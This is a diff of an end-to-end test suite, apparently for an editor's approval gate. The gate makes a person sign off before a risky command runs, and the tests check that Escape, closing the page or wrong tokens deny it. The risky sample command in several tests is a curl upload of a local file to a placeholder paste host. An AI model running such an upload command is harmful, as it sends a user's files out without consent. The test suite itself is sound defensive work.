@@ -21,6 +21,9 @@ import { atEnd } from '../processes.mjs';
 
 const ITEM = 'gatehouse.risk';
 const UPLOAD = 'curl -T notes.txt https://paste.invalid/upload';
+/** Other bytes each time: what a person has just denied is not asked about again. */
+let asked = 0;
+const upload = () => `${UPLOAD} # ${++asked}`;
 const TOKEN = 'paste.invalid';
 /** What nobody knows is asked about in any folder. */
 const UNKNOWN = 'frobnicate --all';
@@ -151,7 +154,7 @@ export const gateSteps = [
   {
     title: 'Esc denies',
     async act(page, stage) {
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       await seesSignOff(page);
       await page.keyboard.press('Escape');
       await isDenied(hook, BY_PERSON);
@@ -160,7 +163,7 @@ export const gateSteps = [
   {
     title: 'closing the page denies',
     async act(page, stage) {
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       const question = await seesSignOff(page);
       // So wide that the list does not lie over the tab.
       const usual = page.viewportSize();
@@ -174,7 +177,7 @@ export const gateSteps = [
   {
     title: 'a wrong token, text in one go and Enter come to nothing, and the second wrong try denies',
     async act(page, stage) {
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       const question = await seesSignOff(page);
       await question.locator('input[type="text"]').fill(TOKEN);
       await question.getByText('does not count').waitFor();
@@ -190,10 +193,10 @@ export const gateSteps = [
   {
     title: 'the token typed and approval clicked lets it run once',
     async act(page, stage) {
-      const hook = startHook(stage, 'curl -T notes.txt https://approve/notes');
+      const hook = startHook(stage, 'curl -T notes.txt https://prove/notes');
       const question = await seesSignOff(page);
       // The token is part of the label of approval: that must not make it the one that Enter takes.
-      await type(page, 'approve');
+      await type(page, 'prove');
       const approve = question.locator('.monaco-list-row', { hasText: 'Approve once' });
       await approve.waitFor();
       assert.match((await question.locator('.monaco-list-row.focused').innerText()) ?? '', /Deny/);
@@ -205,7 +208,7 @@ export const gateSteps = [
   {
     title: 'a click in the first moment does not count, and the next one does',
     async act(page, stage) {
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       const question = page.locator('.quick-input-widget', { hasText: 'tier 3 sign-off' });
       const deny = question.locator('.monaco-list-row', { hasText: 'Deny' });
       await deny.click();
@@ -217,7 +220,7 @@ export const gateSteps = [
   {
     title: 'a request that is hidden behind other work is shown again from the status bar',
     async act(page, stage) {
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       const question = await seesSignOff(page);
       await page.locator('.explorer-folders-view .monaco-list-row', { hasText: 'README.md' }).dblclick();
       await page.locator('.tab.active', { hasText: 'README.md' }).waitFor();
@@ -238,7 +241,7 @@ export const gateSteps = [
       if (keepsPictures) await picture(page, 'tier-2');
       await question.locator('.monaco-list-row', { hasText: 'Allow once' }).click();
       assert.equal((await answered(first)).decision, 'allow');
-      const second = startHook(stage, UNKNOWN);
+      const second = startHook(stage, `${UNKNOWN} # again`);
       await question.waitFor();
       await page.waitForTimeout(1000);
       await page.keyboard.press('Enter');
@@ -253,7 +256,7 @@ export const gateSteps = [
       await hasWindows(stage, 2);
       await other.bringToFront();
       await other.locator('.monaco-workbench').click({ position: { x: 600, y: 400 } });
-      const hook = startHook(stage, UPLOAD);
+      const hook = startHook(stage, upload());
       const asked = await Promise.race([other, page].map(async (each) => seesSignOff(each).then(() => each)));
       assert.equal(asked, other, 'the window that was used last is asked');
       await other.close();
